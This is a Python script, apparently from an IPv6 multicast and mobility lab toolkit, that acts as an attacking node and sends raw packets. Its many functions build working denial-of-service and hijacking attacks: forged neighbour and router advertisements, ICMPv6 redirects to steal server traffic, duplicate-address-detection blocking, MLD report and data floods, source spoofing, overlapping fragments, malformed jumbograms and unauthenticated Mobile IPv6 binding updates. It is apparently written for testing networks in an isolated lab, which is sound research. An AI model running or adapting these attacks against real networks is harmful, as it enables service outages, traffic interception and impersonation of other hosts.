"""Plays a node that wants others to lose service: raw packets, from the node that it is started on.

    python3 attack.py NAME SECONDS [PACKETS_A_SECOND]

For use in a lab of this toolkit alone: it sends by the node's only interface, which leads nowhere
else. It needs nothing but Python.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from ipaddress import IPv6Address, IPv6Network
from pathlib import Path

ROUTER = bytes.fromhex("00005e005213")
VICTIM = bytes.fromhex("020000010001")
"""The MAC addresses of every access router, and of the first mobile node of the scenario."""
SERVER, CHANNEL = IPv6Address("2001:db8:5e00:1::2"), IPv6Address("ff3e::c1")
ANY_SOURCE, ALL_NODES = IPv6Address("ff0e::bad"), IPv6Address("ff02::1")
MAR1, ANY_MAG = IPv6Address("fe80::5213:1"), IPv6Address("fe80::5213:0")
"""The access router's link-local address; that of PMIPv6, where the prefixes are the anchor's."""
MAR1_POOL = IPv6Network("2001:db8:1::/48")
ALL_MLD_ROUTERS = IPv6Address("ff02::16")
MANY_GROUPS = IPv6Address("ff0e::bad:0:0")
HOMES, HOME_AGENT = IPv6Network("2001:db8:a000::/48"), IPv6Address("2001:db8:ffff::8:1")
"""Of Mobile IPv6."""
DOCUMENTATION = IPv6Network("2001:db8::/32")
"""All of a lab's global addresses are of it (RFC 3849)."""
UDP, FRAGMENT, ICMPV6, DESTINATION_OPTIONS, MOBILITY = 17, 44, 58, 60, 135
Frames = Iterator[bytes]


class Node:
    """The node that attacks: its interface, MAC address and global address."""

    def __init__(self) -> None:
        lines = Path("/proc/net/if_inet6").read_text(encoding="ascii").splitlines()
        found = [(line.split()[5], IPv6Address(int(line.split()[0], 16))) for line in lines]
        own = [
            (address in HOMES, name, address)
            for name, address in found
            if address in DOCUMENTATION and not name.startswith(("lo", "tun"))
        ]
        is_home, self.interface, self.address = min(own)  # in Mobile IPv6 there is another one
        self.router = ANY_MAG if is_home else MAR1
        pool = HOMES if is_home else MAR1_POOL
        self.prefixes = [pool[number << 64] for number in range(4)]
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
            link.bind((self.interface, 0))
            self.mac = link.getsockname()[4]


def of_mac(prefix: IPv6Address, mac: bytes) -> IPv6Address:
    """The address that a host makes of its MAC address (RFC 4291 appendix A)."""
    identifier = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    return prefix + int.from_bytes(identifier, "big")


def frame(mac: bytes, packet: bytes) -> bytes:
    """An Ethernet frame to the access router, or to a multicast address."""
    is_multicast = packet[24] == 0xFF
    to = b"\x33\x33" + packet[36:40] if is_multicast else ROUTER
    return to + mac + b"\x86\xdd" + packet


def ipv6(
    source: IPv6Address, to: IPv6Address, protocol: int, payload: bytes, hops: int = 64
) -> bytes:
    """An IPv6 packet."""
    head = struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops)
    return head + source.packed + to.packed + payload


def checked(source: IPv6Address, to: IPv6Address, protocol: int, payload: bytes, at: int) -> bytes:
    """The payload with its checksum (RFC 8200 section 8.1) at an offset."""
    data = source.packed + to.packed + struct.pack("!II", len(payload), protocol) + payload
    words = struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2])
    total = sum(words) + (data[-1] << 8 if len(data) % 2 else 0)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return payload[:at] + struct.pack("!H", ~total & 0xFFFF) + payload[at + 2 :]


def datagram(source: IPv6Address, to: IPv6Address) -> bytes:
    """A UDP datagram of 20 octets of payload."""
    payload = struct.pack("!HHHH", 5001, 5001, 28, 0) + os.urandom(20)
    return ipv6(source, to, UDP, checked(source, to, UDP, payload, 6))


def icmp(source: IPv6Address, to: IPv6Address, body: bytes, hops: int = 255) -> bytes:
    """An ICMPv6 message."""
    return ipv6(source, to, ICMPV6, checked(source, to, ICMPV6, body, 2), hops)


def report(source: IPv6Address, group: IPv6Address) -> bytes:
    """An MLDv2 report of a listener to any source, with Router Alert (RFC 3810 section 5.2)."""
    body = struct.pack("!BxHHH", 143, 0, 0, 1) + struct.pack("!BBH", 4, 0, 0) + group.packed
    options = bytes([ICMPV6, 0, 5, 2, 0, 0, 1, 0])
    return ipv6(
        source, ALL_MLD_ROUTERS, 0, options + checked(source, ALL_MLD_ROUTERS, ICMPV6, body, 2), 1
    )


def nothing(node: Node) -> Frames:
    """No attack: what all else is held against."""
    return iter(())


def forged_channel(node: Node) -> Frames:
    """The victims' channel, in the name of its source."""
    while True:
        yield frame(node.mac, datagram(SERVER, CHANNEL))


def many_sources(node: Node) -> Frames:
    """A group from ever new addresses of one's own, and somebody who listens to all of them."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    yield frame(node.mac, report(link_local, ANY_SOURCE))
    prefix = int(node.address) >> 64 << 64
    for number in itertools.count(0x10000):
        yield frame(node.mac, datagram(IPv6Address(prefix + number), ANY_SOURCE))


def neighbour_advertisements(node: Node) -> Frames:
    """The victim's addresses are where nobody is (flags S and O)."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    for prefix in itertools.cycle(node.prefixes):
        target = of_mac(prefix, VICTIM)
        body = struct.pack("!BxHI", 136, 0, 0x60000000) + target.packed
        body += bytes([2, 1]) + bytes.fromhex("02deadbeef00")
        yield frame(node.mac, icmp(link_local, node.router, body))


def router_advertisements(node: Node) -> Frames:
    """This node is the router, and the old one has gone."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    body = struct.pack("!BxHBBHII", 134, 0, 64, 0, 1800, 0, 0)
    while True:
        yield frame(node.mac, icmp(link_local, ALL_NODES, body))


def invented_hosts(node: Node) -> Frames:
    """70 hosts that listen to 64 groups each."""
    for number in itertools.count():
        mac = b"\x02\xba\xd0\x00\x00" + bytes([number % 70])
        group = IPv6Address("ff0e::bad:0") + number // 70 % 64
        yield frame(mac, report(of_mac(IPv6Address("fe80::"), mac), group))


def forged_sources(node: Node) -> Frames:
    """Datagrams in the victim's name, from its MAC address."""
    for prefix in itertools.cycle(node.prefixes):
        yield frame(VICTIM, datagram(of_mac(prefix, VICTIM), SERVER))


def unused_addresses(node: Node) -> Frames:
    """From the core: to ever new addresses of the mobile nodes' prefixes."""
    router = neighbour_of(node)
    for number in itertools.count(0x10000):
        to = node.prefixes[number % 4] + number
        yield router + node.mac + b"\x86\xdd" + datagram(node.address, to)


def many_groups(node: Node) -> Frames:
    """Datagrams from one's own address to ever new groups."""
    for number in itertools.count():
        yield frame(node.mac, datagram(node.address, MANY_GROUPS + number))


def core_sources(node: Node) -> Frames:
    """From the core: a group from ever new addresses of the server's LAN."""
    prefix = IPv6Address(int(node.address) >> 64 << 64)
    for number in itertools.count(0x10000):
        yield frame(node.mac, datagram(prefix + number, MANY_GROUPS))


def report_flood(node: Node) -> Frames:
    """True MLD reports of one's own, of 64 groups in turn."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    for number in itertools.count():
        yield frame(node.mac, report(link_local, MANY_GROUPS + number % 64))


def data_flood(node: Node) -> Frames:
    """One channel of one's own, and somebody who listens to it."""
    yield frame(node.mac, report(of_mac(IPv6Address("fe80::"), node.mac), ANY_SOURCE))
    while True:
        yield frame(node.mac, datagram(node.address, ANY_SOURCE))


def redirects(node: Node) -> Frames:
    """The server is at this node, says the router (RFC 4861 section 4.5)."""
    victim = of_mac(IPv6Address("fe80::"), VICTIM)
    body = struct.pack("!BxHI", 137, 0, 0) + of_mac(IPv6Address("fe80::"), node.mac).packed
    while True:
        packet = icmp(node.router, victim, body + SERVER.packed)
        yield VICTIM + node.mac + b"\x86\xdd" + packet


def overlapping_fragments(node: Node) -> Frames:
    """A datagram in two fragments, of which the second lies over the first (RFC 5722)."""
    for number in itertools.count():
        for offset, more in ((0, 1), (1, 0)):
            head = struct.pack("!BBHI", UDP, 0, offset << 3 | more, number)
            payload = struct.pack("!HHHH", 5001, 5001, 40, 0) + bytes(24)
            yield frame(node.mac, ipv6(node.address, SERVER, FRAGMENT, head + payload))


def jumbograms(node: Node) -> Frames:
    """Packets that say they are longer than 65,535 octets (RFC 2675), and are not."""
    head = struct.pack("!BBHI", UDP, 0, 0xC204, 100_000)
    for to in itertools.cycle([SERVER, CHANNEL]):
        packet = bytearray(ipv6(node.address, to, 0, head + bytes(24)))
        packet[4:6] = bytes(2)
        yield frame(node.mac, bytes(packet))


def address_detection(node: Node) -> Frames:
    """Whatever the victim wants to use, somebody uses already (RFC 4862 section 5.4.4)."""
    for number in itertools.count():
        target = of_mac(node.prefixes[number % 4] if number % 5 else IPv6Address("fe80::"), VICTIM)
        body = struct.pack("!BxHI", 136, 0, 0x20000000) + target.packed
        body += bytes([2, 1]) + node.mac
        yield frame(node.mac, icmp(target, ALL_NODES, body))


def binding_updates(node: Node) -> Frames:
    """Mobile IPv6: the victim is here now; without the key of its home address."""
    home = of_mac(HOMES[0], VICTIM)
    for sequence in itertools.count(1):
        number = sequence & 0xFFFF
        body = struct.pack("!BBBxHHHH", 59, 1, 5, 0, number, 0xC000, 15) + bytes([1, 2, 0, 0])
        body = checked(home, HOME_AGENT, MOBILITY, body, 4)
        options = bytes([MOBILITY, 2, 1, 2, 0, 0, 201, 16]) + home.packed
        yield frame(node.mac, ipv6(node.address, HOME_AGENT, DESTINATION_OPTIONS, options + body))


def neighbour_of(node: Node) -> bytes:
    """The MAC address of the other end of a host's LAN, which is the only one there."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind((node.interface, 3))
        while True:
            seen = link.recv(2048)[6:12]
            if seen != node.mac:
                return seen


ATTACKS: dict[str, tuple[Callable[[Node], Frames], int]] = {
    "nothing": (nothing, 0),
    "forged-channel": (forged_channel, 10),
    "many-sources": (many_sources, 320),
    "neighbour-advertisements": (neighbour_advertisements, 8),
    "router-advertisements": (router_advertisements, 10),
    "invented-hosts": (invented_hosts, 200),
    "forged-sources": (forged_sources, 1000),
    "many-groups": (many_groups, 1000),
    "report-flood": (report_flood, 1000),
    "data-flood": (data_flood, 1000),
    "redirects": (redirects, 10),
    "overlapping-fragments": (overlapping_fragments, 100),
    "jumbograms": (jumbograms, 100),
    "address-detection": (address_detection, 20),
    "binding-updates": (binding_updates, 100),
    "unused-addresses": (unused_addresses, 3000),
    "core-groups": (many_groups, 1000),
    "core-sources": (core_sources, 1000),
}
"""What is sent, and how many a second."""


def main() -> None:
    """Send until the time is over."""
    name, seconds = sys.argv[1], float(sys.argv[2])
    make, rate = ATTACKS[name]
    rate = int(sys.argv[3]) if len(sys.argv) > 3 else rate
    node = Node()
    frames, sent = make(node), 0
    print(f"{name}: {rate} packets a second", flush=True)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((node.interface, 0))
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            for _ in range(int(passed * rate) - sent):
                link.send(next(frames))
                sent += 1
            time.sleep(0.002)
    print(f"{name}: {sent} packets")


if __name__ == "__main__":
    main()
